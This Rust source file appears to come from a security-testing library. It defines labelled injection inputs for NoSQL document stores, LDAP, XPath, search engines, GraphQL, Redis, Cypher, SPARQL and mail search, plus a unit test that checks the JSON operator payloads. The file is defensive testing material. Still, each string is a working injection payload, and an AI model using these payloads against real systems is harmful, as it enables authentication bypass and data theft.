//! Text and documents that change a query other than SQL.

use super::Inputs;

/// Text and documents that change a query other than SQL (CWE-943, CWE-90, CWE-643).
///
/// Operators of document stores in the place of a value, as JSON and as parameters of a form; filters of LDAP that
/// become true or lose their end; conditions of XPath; the query language of search engines; further fields of GraphQL;
/// lines of the Redis protocol. They ask for more than one entry, or for the entry of `admin`: ask whether the answer
/// has what the sender may not see.
#[must_use]
pub fn query_language_injection() -> Inputs {
    Inputs::texts([
        ("document: not equal", r#"{"$ne":null}"#),
        ("document: greater than nothing", r#"{"$gt":""}"#),
        ("document: pattern", r#"{"$regex":".*"}"#),
        ("document: one of many", r#"{"$in":["admin","root",""]}"#),
        ("document: not in nothing", r#"{"$nin":[]}"#),
        ("document: exists", r#"{"$exists":true}"#),
        ("document: program", r#"{"$where":"return true"}"#),
        ("document: program in a string", "'; return true; var x='"),
        ("document: condition in a string", "' || '1'=='1"),
        ("document: operator with another spelling", r#"{"\u0024ne":null}"#),
        ("document: broken out of a JSON string", r#"","password":{"$ne":""},"x":""#),
        ("form: not equal", "user[$ne]=x"),
        ("form: pattern", "user[$regex]=.*"),
        ("LDAP: any", "*"),
        ("LDAP: further filter", "*)(uid=*"),
        ("LDAP: always true, rest cut off", "*)(|(uid=*))"),
        ("LDAP: end of the filter", "admin)(&)"),
        ("LDAP: NUL behind the filter", "admin))\0"),
        ("LDAP: escaped star", "\\2a"),
        ("LDAP: further part of a name", "admin,ou=administrators"),
        ("XPath: always true", "' or '1'='1"),
        ("XPath: always true, double quotes", "\" or \"1\"=\"1"),
        ("XPath: number", "0 or true()"),
        ("XPath: further nodes", "x'] | //* | //*['"),
        ("XPath: up", "../.."),
        ("search: everything", "*:*"),
        ("search: always true", "x OR *:*"),
        ("search: another field", "x\") OR password:(*"),
        ("search: any length of pattern", "/.*/"),
        ("GraphQL: further field", "1\") { id } users { password } #"),
        ("GraphQL: schema", "{__schema{types{name,fields{name}}}}"),
        ("Redis: further command", "x\r\nKEYS *\r\n"),
        ("Redis: every key", "user:*"),
        ("Lua: end of a string", "' .. redis.call('KEYS','*')[1] .. '"),
        ("Cypher: always true", "' OR 1=1 WITH 1 AS x MATCH (n) RETURN n //"),
        ("SPARQL: further pattern", "x\" . ?s ?p ?o . #"),
        ("mail search: further command", "x\"\r\nA2 LIST \"\" \"*"),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn operators_are_json_objects_with_one_key_that_is_an_operator() {
        let inputs = query_language_injection();
        let mut operators = 0;
        for input in inputs.iter().filter(|input| input.starts_with("{\"")) {
            let value: serde_json::Value = serde_json::from_str(input).unwrap();
            let keys: Vec<&String> = value.as_object().unwrap().keys().collect();
            assert!(keys.len() == 1 && keys[0].starts_with('$'), "{input:?}");
            operators += 1;
        }
        assert_eq!(operators, 8);
        let broken_out = inputs.iter().find(|input| input.label().starts_with("document: broken out")).unwrap();
        let document: serde_json::Value = serde_json::from_str(&format!("{{\"user\":\"{broken_out}\"}}")).unwrap();
        assert!(document["password"].is_object());
    }
}
